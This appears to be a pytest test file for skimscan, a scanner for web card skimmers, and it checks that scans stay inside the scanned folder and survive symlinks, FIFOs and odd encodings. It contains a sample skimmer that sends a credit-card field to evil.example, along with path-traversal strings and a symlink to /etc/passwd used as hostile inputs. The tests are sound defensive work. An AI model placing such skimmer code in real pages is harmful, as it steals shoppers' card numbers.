"""Hostile input, files: `scan-file` reads only inside what it was asked to scan, and a folder
entry it cannot stat, a FIFO, a symlink loop or an odd encoding never crashes it.

- a local `<script src>` that resolves outside the scanned root (`../../secret.js`, an absolute
  path, percent-encoded dots, a symlink) is a note on the HTML target, never a read; `--root`
  widens the root;
- a symlink inside a scanned folder that points outside it is an error target, not followed;
- a folder entry whose `stat()` fails (a path too long, a loop, no permission) or that is not a
  regular file is an error target of its own; the other files complete;
- `scan_files("x.js")` is one path; `analyze_source` takes bytes (decoded as a browser would,
  byte-order mark first) and refuses None with a TypeError; UTF-16 files with a BOM are text.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

import skimscan
from skimscan.cli import main

ROOT = Path(__file__).resolve().parents[2]
SECRET = "SECRET-FIRST-LINE-do-not-read"
# A skimmer, so that a finding (and its code excerpt) would show the file if it were read.
SKIMMER = ("document.getElementById('pay').addEventListener('click', function () {\n"
           "  var n = document.getElementById('cc_number').value;\n"
           "  navigator.sendBeacon('https://evil.example/c', n);\n});\n")
OUTSIDE_CODE = f"// {SECRET}\n{SKIMMER}"
OUTSIDE_SHA = hashlib.sha256(OUTSIDE_CODE.encode()).hexdigest()


def scan(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = main(["scan-file", "--no-cache", "-j", "1", "--detonate", "never", *args])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture()
def layout(tmp_path: Path) -> Path:
    """tmp/outside/secret.js (not to be read) and tmp/site/, the folder that is scanned."""
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.js").write_text(OUTSIDE_CODE)
    (tmp_path / "site" / "pages").mkdir(parents=True)
    return tmp_path


# --- <script src> stays inside the scanned root ----------------------------------------------


@pytest.mark.parametrize("src", [
    "../../outside/secret.js",
    "/../../outside/secret.js",
    "%2e%2e/%2e%2e/outside/secret.js",
    "ABSOLUTE",
])
def test_script_src_outside_the_root_is_a_note_not_a_read(
        layout: Path, src: str, capsys: pytest.CaptureFixture[str]) -> None:
    src = str(layout / "outside" / "secret.js") if src == "ABSOLUTE" else src
    (layout / "site" / "pages" / "checkout.html").write_text(
        f'<html><body><input id="cc_number"><script src="{src}"></script></body></html>')
    for fmt in ("json", "html", "sarif"):
        code, out, _ = scan(["-f", fmt, str(layout / "site")], capsys)
        assert SECRET not in out and OUTSIDE_SHA not in out, fmt
        assert code == 0, fmt
    _, out, _ = scan(["-f", "json", str(layout / "site")], capsys)
    [target] = json.loads(out)["targets"]
    assert target["scripts"] == []
    # an absolute path is a path on the site (under the page's folder), not on this disk
    reason = "no such file" if src.startswith(str(layout)) else "outside the scanned root"
    assert any(src in n and reason in n for n in target["notes"])


def test_a_single_html_file_may_read_only_its_own_folder(
        layout: Path, capsys: pytest.CaptureFixture[str]) -> None:
    page = layout / "site" / "pages" / "checkout.html"
    (layout / "site" / "pages" / "app.js").write_text(SKIMMER)
    (layout / "site" / "up.js").write_text(SKIMMER)
    page.write_text('<script src="app.js"></script><script src="../up.js"></script>')
    _, out, _ = scan(["-f", "json", str(page)], capsys)
    [target] = json.loads(out)["targets"]
    assert [Path(s["url"]).name for s in target["scripts"]] == ["app.js"]
    assert any("../up.js" in n and "outside the scanned root" in n for n in target["notes"])


def test_root_widens_where_script_src_may_read(
        layout: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (layout / "site" / "pages" / "checkout.html").write_text(
        '<script src="../../outside/secret.js"></script>')
    code, out, _ = scan(["-f", "json", "--root", str(layout), str(layout / "site")], capsys)
    [target] = json.loads(out)["targets"]
    assert [s["sha256"] for s in target["scripts"]] == [OUTSIDE_SHA]
    assert code == 1  # the skimmer it holds is found


def test_script_src_symlink_out_of_the_root_is_not_read(
        layout: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (layout / "site" / "pages" / "lib.js").symlink_to(layout / "outside" / "secret.js")
    (layout / "site" / "pages" / "checkout.html").write_text('<script src="lib.js"></script>')
    _, out, _ = scan(["-f", "json", str(layout / "site" / "pages" / "checkout.html")], capsys)
    [target] = json.loads(out)["targets"]
    assert target["scripts"] == [] and SECRET not in out


def test_script_src_naming_a_fifo_does_not_hang(tmp_path: Path) -> None:
    """Opening a FIFO blocks until someone writes: run in a process that a timeout can end."""
    os.mkfifo(tmp_path / "pipe.js")
    (tmp_path / "checkout.html").write_text('<script src="pipe.js"></script>')
    result = subprocess.run(
        [sys.executable, "-m", "skimscan", "scan-file", "--no-cache", "--detonate", "never",
         "-f", "json", str(tmp_path / "checkout.html")],
        capture_output=True, text=True, timeout=120, check=False, cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)})
    [target] = json.loads(result.stdout)["targets"]
    assert any("not a regular file (a FIFO)" in n for n in target["notes"])


# --- symlinks inside a scanned folder ---------------------------------------------------------


def test_symlink_in_a_folder_to_a_file_outside_is_not_followed(
        layout: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (layout / "site" / "vendor.js").symlink_to(layout / "outside" / "secret.js")
    (layout / "site" / "passwd.js").symlink_to("/etc/passwd")
    (layout / "site" / "lib").symlink_to(layout / "outside", target_is_directory=True)
    (layout / "site" / "ok.js").write_text("var a = 1;\n")
    code, out, _ = scan(["-f", "json", str(layout / "site")], capsys)
    assert SECRET not in out and OUTSIDE_SHA not in out and "root:x:0" not in out
    targets = {Path(t["target"]).name: t for t in json.loads(out)["targets"]}
    assert set(targets) == {"lib", "ok.js", "passwd.js", "vendor.js"}
    for name in ("lib", "passwd.js", "vendor.js"):
        assert targets[name]["verdict"] == "error" and targets[name]["scripts"] == []
        assert "outside the scanned root" in targets[name]["error"]
    assert targets["ok.js"]["verdict"] == "clean"
    assert code == 3  # files that would be served were not analysed: never a clean scan


def test_symlinks_inside_the_root_are_followed_and_root_widens_them(
        layout: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (layout / "site" / "real.js").write_text(SKIMMER)
    (layout / "site" / "alias.js").symlink_to("real.js")
    (layout / "site" / "loop").symlink_to(layout / "site", target_is_directory=True)
    (layout / "site" / "zreal").mkdir()
    (layout / "site" / "zreal" / "deep.js").write_text(SKIMMER)
    (layout / "site" / "adir").symlink_to("zreal", target_is_directory=True)
    (layout / "site" / "lib").symlink_to(layout / "outside", target_is_directory=True)
    (layout / "site" / "vendor.js").symlink_to(layout / "outside" / "secret.js")
    code, out, _ = scan(["-f", "json", "--root", str(layout), str(layout / "site")], capsys)
    targets = json.loads(out)["targets"]
    # a folder inside the scanned one is walked at its real path, once; the loop never
    assert sorted(str(Path(t["target"]).relative_to(layout / "site")) for t in targets) == [
        "alias.js", "lib/secret.js", "real.js", "vendor.js", "zreal/deep.js"]
    assert all(t["verdict"] == "malicious" for t in targets)
    assert code == 1


# --- entries that cannot be stat()ed or read --------------------------------------------------


def _deep_folder(base: Path) -> Path:
    """A folder nested past PATH_MAX: listing it fails with ENAMETOOLONG, even for root."""
    top = base / "deep"
    top.mkdir()
    fd = os.open(top, os.O_RDONLY)
    name = "d" * 200
    try:
        for _ in range(25):
            os.mkdir(name, dir_fd=fd)
            inner = os.open(name, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
        handle = os.open("buried.js", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(handle, SKIMMER.encode())
        os.close(handle)
    finally:
        os.close(fd)
    return top


def test_an_entry_that_cannot_be_listed_is_an_error_target(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (site / "ok.js").write_text("var a = 1;\n")
    _deep_folder(site)
    code, out, _ = scan(["-f", "json", str(site)], capsys)
    assert code == 3  # incomplete, with a report: no traceback, no exit 1
    targets = json.loads(out)["targets"]
    failed = [t for t in targets if t["verdict"] == "error"]
    assert failed and all("File name too long" in (t["error"] or "") for t in failed)
    assert any(t["target"].endswith("ok.js") and t["verdict"] == "clean" for t in targets)


def test_a_symlink_loop_and_a_fifo_in_a_folder_are_error_targets(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "loop.js").symlink_to("loop.js")
    (tmp_path / "a.js").symlink_to("b.js")
    (tmp_path / "b.js").symlink_to("a.js")
    os.mkfifo(tmp_path / "pipe.js")
    (tmp_path / "ok.js").write_text("var a = 1;\n")
    code, out, _ = scan(["-f", "json", str(tmp_path)], capsys)
    targets = {Path(t["target"]).name: t for t in json.loads(out)["targets"]}
    assert set(targets) == {"a.js", "b.js", "loop.js", "ok.js", "pipe.js"}
    for name in ("a.js", "b.js", "loop.js"):
        assert targets[name]["verdict"] == "error" and "loop" in targets[name]["error"]
    assert targets["pipe.js"]["error"] == "not a regular file (a FIFO)"
    assert code == 3


def _permissions_deny(tmp_path: Path) -> bool:
    """Whether a folder with no permissions is closed to us (not for root with its
    capabilities; yes for root without CAP_DAC_OVERRIDE, e.g. under `setpriv`)."""
    probe = tmp_path / "probe"
    probe.mkdir()
    probe.chmod(0)
    try:
        os.listdir(probe)
        return False
    except PermissionError:
        return True
    finally:
        probe.chmod(0o755)


def test_entries_without_permission_are_error_targets(tmp_path: Path) -> None:
    """Run as a user whom permissions deny: as root, in a child without the capabilities that
    override them (`setpriv`), which is what an unprivileged scan would meet."""
    site = tmp_path / "site"
    (site / "closed").mkdir(parents=True)
    (site / "listable").mkdir()
    (site / "listable" / "x.js").write_text("var a = 1;\n")
    (site / "ok.js").write_text("var a = 1;\n")
    command = [sys.executable, "-m", "skimscan", "scan-file", "-f", "json", str(site)]
    if not _permissions_deny(tmp_path):
        caps = "-dac_override,-dac_read_search"
        command = ["setpriv", f"--inh-caps={caps}", f"--bounding-set={caps}", "--", *command]
    (site / "closed").chmod(0)
    (site / "listable").chmod(0o600)  # names can be read, entries cannot be stat()ed
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=120,
                              cwd=Path(__file__).resolve().parents[2])
    finally:
        (site / "closed").chmod(0o755)
        (site / "listable").chmod(0o755)
    targets = {Path(t["target"]).name: t for t in json.loads(done.stdout)["targets"]}
    assert targets["closed"]["verdict"] == "error"
    assert "Permission denied" in targets["closed"]["error"]
    assert targets["x.js"]["verdict"] == "error"
    assert targets["ok.js"]["verdict"] == "clean"
    assert done.returncode == 3, done.stderr


# --- the library: one path, bytes, None -------------------------------------------------------


def test_scan_files_takes_a_single_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x.js").write_text(SKIMMER)
    for one in ("x.js", Path("x.js")):
        report = skimscan.scan_files(one)
        assert [(t.target, t.verdict.value) for t in report.targets] == [("x.js", "malicious")]
        from skimscan.detonate.files import ascan_files
        report = asyncio.run(ascan_files(one))  # the async entry point too
        assert [(t.target, t.verdict.value) for t in report.targets] == [("x.js", "malicious")]


def test_analyze_source_refuses_none_with_a_type_error() -> None:
    with pytest.raises(TypeError, match="str or bytes"):
        skimscan.analyze_source(None)  # type: ignore[arg-type]


@pytest.mark.parametrize(("data", "note"), [
    (SKIMMER.encode(), None),
    (b"\xef\xbb\xbf" + SKIMMER.encode(), None),
    (b"\xff\xfe" + SKIMMER.encode("utf-16-le"), None),
    (b"\xfe\xff" + SKIMMER.encode("utf-16-be"), None),
    ("var s = 'caf\xe9';\n".encode("latin-1") + SKIMMER.encode(), "invalid UTF-8 at byte 12"),
])
def test_analyze_source_decodes_bytes_as_a_browser_would(data: bytes, note: str | None) -> None:
    report = skimscan.analyze_source(data)
    assert report.verdict.value == "malicious"
    assert [n for n in report.notes if "UTF" in n] == ([] if note is None else [
        f"{note}; decoded with replacement characters, as a browser would"])


@pytest.mark.parametrize(("bom", "codec"), [(b"\xff\xfe", "utf-16-le"),
                                            (b"\xfe\xff", "utf-16-be")])
def test_utf16_files_with_a_byte_order_mark_are_scripts_not_binary(
        tmp_path: Path, bom: bytes, codec: str, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "skim.js").write_bytes(bom + SKIMMER.encode(codec))
    (tmp_path / "page.html").write_bytes(
        bom + f"<html><body><script>{SKIMMER}</script></body></html>".encode(codec))
    code, out, _ = scan(["-f", "json", str(tmp_path)], capsys)
    verdicts = {Path(t["target"]).name: (t["verdict"], t["error"])
                for t in json.loads(out)["targets"]}
    assert verdicts == {"page.html": ("malicious", None), "skim.js": ("malicious", None)}
    assert code == 1
